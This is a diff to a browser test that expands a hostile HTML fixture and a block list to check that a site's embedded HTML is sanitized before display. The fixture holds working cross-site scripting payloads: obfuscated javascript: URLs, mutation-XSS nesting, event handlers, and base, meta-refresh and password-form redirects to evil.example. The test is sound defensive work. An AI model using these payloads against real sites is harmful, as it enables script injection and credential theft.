@@ -134,8 +134,20 @@ test("an overlay in Arabic ends its sentences on the left, whatever the language
 const Site = z.looseObject({ name: z.string(), settings: z.record(z.string(), z.unknown()), style: z.record(z.string(), z.unknown()) });
 const HOSTILE = `<p class="sponsor" onclick="alert(1)" style="position:fixed;inset:0" id="player">Presented by
   <a href="https://demo.example/ferries">Harbour Ferries</a> <a href="javascript:alert(1)">x</a></p>
+  <p class="cover-page">Everywhere</p>
   <script>document.title = "taken"</script><style>body { display: none }</style><img src="x" onerror="document.title = 'taken'">
-  <form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>`;
+  <form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
+  <iframe srcdoc="<script>parent.document.title = 'taken'</script>"></iframe><base href="https://evil.example/">
+  <meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
+  <svg onload="document.title = 'taken'"><script>document.title = "taken"</script><a xlink:href="javascript:alert(1)">x</a></svg>
+  <form><math><mtext></form><form><mglyph><style></math><img src onerror="document.title = 'taken'"></style></form>
+  <template shadowrootmode="open"><img src="x" onerror="document.title = 'taken'"></template>
+  <noscript><p title="</noscript><img src=x onerror=document.title='taken'>"></noscript>
+  <a href="java\tscript:alert(1)">a</a> <a href="java&#x0A;script:alert(1)">b</a> <a href="\u0001javascript:alert(1)">c</a>
+  <a href="//evil.example">d</a> <a href="/\\evil.example">e</a> <a href="data:text/html,x">f</a>
+  <img srcset="https://demo.example/a.png 1x, http://evil.example/b.png 2x" alt=""><img src="http://evil.example/c.png" alt="">
+  <div role="dialog" aria-modal="true">Sign in</div><fieldset><legend>Sign in</legend></fieldset>
+  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='taken'&gt;"></table></mtext></math>`;
 
 describe("the site's own HTML", () => {
   test("is inserted where the page asks for it, without anything that runs, covers or imitates", async () => {
@@ -144,8 +156,30 @@ describe("the site's own HTML", () => {
     const { page } = await open({ siteHtml: true });
     await page.getByText("Presented by").waitFor();
     const html = await page.locator("#site-html").innerHTML();
-    for (const part of ["script", "style", "onclick", "onerror", "javascript:", "form", "input", "iframe", "id="])
+    const parts = ["script", "onclick", "onerror", "onload", "javascript:", "form", "input", "frame", "id=", "evil.example", "svg", "math"];
+    for (const part of [
+      ...parts,
+      "base",
+      "meta",
+      "link ",
+      "template",
+      "noscript",
+      "srcset",
+      "role",
+      "aria-",
+      "fieldset",
+      "legend",
+      "data:",
+    ])
       expect.soft(html).not.toContain(part);
+    // The only style is that of the box, which even the page's own classes don't make it leave.
+    expect(html.match(/style/g)).toHaveLength(1);
+    await page.addStyleTag({ content: ".cover-page { position: fixed; inset: 0; margin: 0; z-index: 9999 }" });
+    const [box, cover] = await Promise.all([
+      page.locator("#site-html > div").boundingBox(),
+      page.getByText("Everywhere", { exact: true }).boundingBox(),
+    ]);
+    expect(cover).toEqual(box);
     expect(await page.getByRole("link", { name: "Harbour Ferries" }).getAttribute("rel")).toContain("noopener");
     expect(await page.title()).toBe("Match day");
     const { page: without } = await open({});
